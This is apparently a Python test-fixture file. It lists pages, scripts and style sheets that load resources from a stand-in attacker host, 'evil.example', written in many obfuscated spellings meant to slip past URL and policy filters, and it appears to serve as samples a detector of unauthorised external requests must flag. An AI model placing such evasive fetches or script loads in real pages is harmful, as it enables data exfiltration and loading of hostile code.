"""Sites that ask somebody whom the task does not name, in the spellings that browsers obey."""

from __future__ import annotations

from tests.unit.generation.builders import PAGE

EVIL = "evil.example"
"""The attacker's host, which no brief names."""


def page(markup: str) -> dict[str, str]:
    return {"index.html": PAGE.replace("</main>", f"{markup}</main>")}


def code(text: str) -> dict[str, str]:
    return {"index.html": PAGE.replace("let shown", f"{text}\n    let shown")}


ADDRESSES = [
    f"https://cdn.jsdelivr.net@{EVIL}/x.js", rf"https:\\{EVIL}/x.js", rf"/\{EVIL}/x.js",
    rf"\\{EVIL}/x.js", f"///{EVIL}/x.js", f"https:///{EVIL}/x.js", f"https:/{EVIL}/x.js",
    f"\thttps://{EVIL}/x.js", f"ht\ttps:/\n/{EVIL}/x.js", f"HTTPS://{EVIL}/x.js",
    f"https://{EVIL}:443/x.js", "//evil%2eexample/x.js", "//evil\u3002example/x.js", "//1249763844/x.js",
    f"https&colon;&sol;&sol;{EVIL}/x.js", "https://cdn.jsdelivr.net@cdnjs.cloudflare.com/x.js",
]  # fmt: skip
FOREIGN = {
    **{
        markup: page(markup)
        for markup in (
            f'<svg><script href="https://{EVIL}/x.js"></script></svg>',
            f'<svg><script xlink:href="//{EVIL}/x.js"></script></svg>',
            f'<svg><use href="https://{EVIL}/x.svg#a"></use></svg>',
            f'<svg><rect fill="url(https://{EVIL}/x)"/></svg>',
            f'<img alt="" srcset="a.png 1x, https://{EVIL}/x.png 2x">',
            f'<video poster="https://{EVIL}/x.png"></video>',
            f'<button formaction="https://{EVIL}/x">x</button>',
            f'<form action="//{EVIL}/x"></form>',
            f'<a href="./x.html" ping="./ok https://{EVIL}/x">x</a>',
            f'<input type="image" src="https://{EVIL}/x.png" alt="x">',
            f'<iframe srcdoc="&lt;script src=//{EVIL}/x.js&gt;&lt;/script&gt;"></iframe>',
            f'<iframe srcdoc="<p onclick=&quot;fetch(\'https://{EVIL}\')&quot;>"></iframe>',
            f'<script type="importmap">{{"imports": {{"a": "https://{EVIL}/x.js"}}}}</script>',
            f'<script type="text/ecmascript">fetch("https://{EVIL}/x")</script>',
            f'<script type=" text/javascript1.5 ">fetch("https://{EVIL}/x")</script>',
            f'<svg><script>fetch(&quot;https://{EVIL}/x&quot;)</script></svg>',
            f"""<p onclick="fetch('https://{EVIL}/x')">x</p>""",
            f'<p style="background: url(//{EVIL}/x)">x</p>',
            f'<style>p {{ background: u\\72l("\\68ttps://{EVIL}/x") }}</style>',
            f'<style>@import "//{EVIL}/x.css";</style>',
            f'<body background="https://{EVIL}/x.png">',
            f'<noscript><img alt="" src="//{EVIL}/x.png"></noscript>',
            f'<link rel="alternate stylesheet" href="https://{EVIL}/x.css">',
            """<script src="data:text/javascript,import('x')"></script>""",
            '<iframe src="data:text/html,<p>x"></iframe>',
        )
    },
    **{
        text: code(text)
        for text in (
            rf'fetch("https:\x2f\x2f{EVIL}/" + shown);',
            rf"fetch(`https:\u002f\u002f{EVIL}/${{1}}`);",
            rf'fetch("\150ttps://{EVIL}/");',
            f'import("https://{EVIL}/x");',
            f'new Worker("//{EVIL}/x");',
            f'document.body.innerHTML = "<img alt=\'\' src=//{EVIL}/x>";',
        )
    },
    "a style sheet": {"style.css": f"p {{ background: url(https://{EVIL}/x) }}"},
    "a style sheet that imports": {"style.CSS": f"@import '//{EVIL}/x.css';"},
    "a script that is imported": {"other.js": f'import "https://{EVIL}/x.js";'},
    "a worker": {"worker.mjs": f'importScripts("https://{EVIL}/x")'},
    "a script called a text": {
        **page('<script src="./x.txt"></script>'), "x.txt": f'fetch("https://{EVIL}/x")',
    },
    "a page in capitals": {"login.HTML": f'<form action="https://{EVIL}/x"></form>'},
    "somebody's repository": page('<script src="https://cdn.jsdelivr.net/gh/anybody/x@1/x.js"></script>'),
    "somebody's repository, combined": page(
        '<script src="https://cdn.jsdelivr.net/combine/npm/a@1,gh/anybody/x@1/x.js"></script>'
    ),
}  # fmt: skip

SPELLINGS = {
    f"{tag} {address!r}": page(f'<{tag} src="{address}"></{tag}>')
    for address in ADDRESSES
    for tag in ("script", "iframe")
}
OPENED_ALONE = {
    "a drawing": {"a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://{EVIL}/x"/></svg>'},
    "an XML page": {"a.xml": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="https://{EVIL}/x"/>'},
}  # fmt: skip
"""Files that a browser opens without the page around them: no policy is in them."""
